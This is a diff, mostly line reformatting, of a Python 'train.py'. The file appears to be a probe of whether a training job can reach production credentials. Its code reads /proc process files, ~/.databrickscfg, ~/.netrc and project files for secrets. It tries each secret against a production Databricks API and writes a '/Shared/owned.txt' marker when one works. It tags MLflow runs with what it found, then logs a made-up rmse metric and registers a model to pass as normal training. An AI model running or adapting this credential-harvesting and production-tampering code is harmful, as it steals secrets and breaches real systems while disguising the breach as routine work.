@@ -1,7 +1,8 @@
-"""A project's train.py that looks for the production workspace's credentials, and tries whatever it finds there.
+"""A project's train.py that looks for the production workspace's credentials, and tries whatever it
+finds there.
 
-It runs as a project does, by the standard library alone; a story fills in the line below the imports. What it finds it
-shows as digests, which no mask hides and no log of a test gives away.
+It runs as a project does, by the standard library alone; a story fills in the line below the
+imports. What it finds it shows as digests, which no mask hides and no log of a test gives away.
 """
 
 import base64
@@ -52,13 +53,16 @@ def everything():
             except OSError:
                 continue
             yield f"/proc/{pid}/{name}", text
-            # Orders and programs lie where a command line says, and what belongs to them beside them.
+            # Orders and programs lie where a command line says, and what belongs to them beside
+            # them.
             for word in text.split("\0") if name == "cmdline" else ():
                 if os.path.isabs(word) and os.path.exists(word) and OURS in word:
                     folders.add(os.path.dirname(word))
         with contextlib.suppress(OSError):
             folders.add(os.readlink(f"/proc/{pid}/cwd"))
-    wanted = [os.path.join(os.environ.get("HOME", "."), name) for name in (".databrickscfg", ".netrc")]
+    wanted = [
+        os.path.join(os.environ.get("HOME", "."), name) for name in (".databrickscfg", ".netrc")
+    ]
     for folder in folders:
         if OURS in folder or folder == os.getcwd():
             wanted += glob.glob(os.path.join(glob.escape(folder), "**"), recursive=True)
@@ -96,13 +100,22 @@ opened = []
 for word in ["", *sorted(places)]:
     if knock(PRODUCTION, "/api/2.0/preview/scim/v2/Me", word) == 200:
         opened.append(places.get(word, "nothing"))
-        harm = {"path": "/Shared/owned.txt", "content": "b3duZWQ=", "format": "AUTO", "overwrite": True}
+        harm = {
+            "path": "/Shared/owned.txt",
+            "content": "b3duZWQ=",
+            "format": "AUTO",
+            "overwrite": True,
+        }
         knock(PRODUCTION, "/api/2.0/workspace/import", word, harm)
 for number, path in enumerate(opened):
-    mlflow_rest.call("runs/set-tag", {"run_id": mlflow_rest.RUN, "key": f"opened.{number}", "value": path})
+    mlflow_rest.call(
+        "runs/set-tag", {"run_id": mlflow_rest.RUN, "key": f"opened.{number}", "value": path}
+    )
 digests = [hashlib.sha256(word.encode()).hexdigest()[:16] for word in sorted(places)]
 for start in range(0, len(digests), 200):
     text = " ".join(digests[start : start + 200])
-    mlflow_rest.call("runs/set-tag", {"run_id": mlflow_rest.RUN, "key": f"found.{start}", "value": text})
+    mlflow_rest.call(
+        "runs/set-tag", {"run_id": mlflow_rest.RUN, "key": f"found.{start}", "value": text}
+    )
 mlflow_rest.metric("rmse", 0.5)
 mlflow_rest.register(sys.argv[sys.argv.index("--model-name") + 1])
